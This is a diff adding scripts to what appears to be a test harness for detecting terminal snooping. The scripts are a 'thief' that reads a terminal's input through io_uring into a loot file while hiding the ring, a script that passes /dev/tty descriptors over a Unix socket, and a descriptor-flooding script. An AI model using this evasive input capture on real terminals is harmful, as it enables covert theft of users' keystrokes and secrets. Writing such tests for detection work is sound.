@@ -79,6 +79,116 @@ while True:
 """
 
 
+# Asks for a read of a terminal as a file that is registered with a ring, keeps no descriptor of it, and hides the ring:
+# `closed` has none of the ring either, which is mapped; `timer` has the read begin later, and as many answers as
+# requests; so has `renamed`, with another name for it; `worker` has no ring mapped, and a thread of the kernel's.
+RINGS = """\
+import ctypes, errno, mmap, os, signal, struct, sys, time
+way, pts, path = sys.argv[1:]
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+def call(*arguments):
+    result = libc.syscall(*arguments)
+    if result < 0:
+        sys.exit("no io_uring: " + errno.errorcode[ctypes.get_errno()])
+    return result
+if way == "renamed":
+    uid, gid = os.getuid(), os.getgid()
+    libc.unshare(0x10000000 | 0x20000)
+    for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
+        with open(f"/proc/self/{name}", "w") as file:
+            file.write(text)
+    other = os.path.expanduser("~/a\\rUserFiles:0")
+    open(other, "w").close()
+    assert libc.mount(pts.encode(), other.encode(), None, 4096, None) == 0
+    pts = other
+loot = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
+os.ftruncate(loot, 4096)
+buffer = mmap.mmap(loot, 4096)
+address = ctypes.addressof(ctypes.c_char.from_buffer(buffer))
+params = (ctypes.c_uint32 * 30)()
+ring = call(425, 8, params)
+sq, sqes = (libc.mmap(None, 4096, 3, 0x8001, ring, offset) for offset in (0, 0x10000000))
+terminal = os.open(pts, os.O_RDONLY | os.O_NOCTTY)
+files = (ctypes.c_int32 * 1)(terminal)
+call(427, ring, 2, files, 1)
+null = os.open("/dev/null", os.O_RDWR)
+for fd in (0, terminal):
+    os.dup2(null, fd)
+tail = 0
+def ask(code, fd, offset, at, length, flags):
+    global tail
+    entry = bytearray(64)
+    entry[:2] = bytes((code, flags))
+    struct.pack_into("<iQQI", entry, 4, fd, offset, at, length)
+    ctypes.memmove(sqes + 64 * tail, bytes(entry), 64)
+    ctypes.memmove(sq + params[16] + 4 * tail, struct.pack("<I", tail), 4)
+    tail += 1
+ANY = 2**64 - 1
+if way in ("timer", "renamed"):
+    soon = (ctypes.c_int64 * 2)(20, 0)
+    ask(11, -1, 0, ctypes.addressof(soon), 1, 8)
+    ask(22, 0, ANY, address, 100, 1)
+    for _ in range(2):
+        ask(40, ring, 77, 0, 1, 0)
+else:
+    ask(22, 0, ANY, address, 100, 1 | (16 if way == "worker" else 0))
+ctypes.memmove(sq + params[11], struct.pack("<I", tail), 4)
+call(426, ring, tail, 0, 0, None, 0)
+if way in ("closed", "worker"):
+    call(427, ring, 20, (ctypes.c_uint64 * 2)(0xffffffff, ring), 1)
+    os.close(ring)
+if way == "worker":
+    time.sleep(1)
+    for at in (sq, sqes):
+        libc.munmap(ctypes.c_void_p(at), ctypes.c_size_t(4096))
+print("reads", way, flush=True)
+for fd in (1, 2):
+    os.dup2(null, fd)
+while True:
+    signal.pause()
+"""
+
+# Hands a descriptor of /dev/tty to who listens at a path; that one takes it out of the socket when it is told to.
+PASSED = """\
+import array, os, signal, socket, sys
+path = sys.argv[1]
+end = socket.socket(socket.AF_UNIX)
+if sys.argv[2:] == ["take"]:
+    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR1])
+    end.bind(path)
+    os.chmod(path, 0o777)
+    end.listen()
+    other = end.accept()[0]
+    signal.sigwait([signal.SIGUSR1])
+    kept = other.recvmsg(1, socket.CMSG_SPACE(4))
+    signal.pause()
+end.connect(path)
+terminal = os.open("/dev/tty", os.O_RDONLY)
+end.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [terminal]))])
+print("passed", flush=True)
+"""
+
+# 1,600,000 descriptors of a file, in as many processes as that takes.
+CROWD = """\
+import os, resource, signal
+most = min(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 1 << 19)
+resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+fd = os.open("/etc/passwd", os.O_RDONLY)
+for _ in range(most - 16):
+    os.dup(fd)
+for _ in range(1600000 // most):
+    if not os.fork():
+        break
+else:
+    print("crowded", flush=True)
+for each in (1, 2):
+    os.dup2(fd, each)
+signal.pause()
+"""
+
+
 def let_in(host: Host, terminal: SshClient, way: str, loot: str, pts: str) -> None:
     """Begins a thief on a terminal, which reads from `pts`."""
     terminal.send(f"python3 /usr/local/lib/thief.py {way} {loot} {pts}\n")
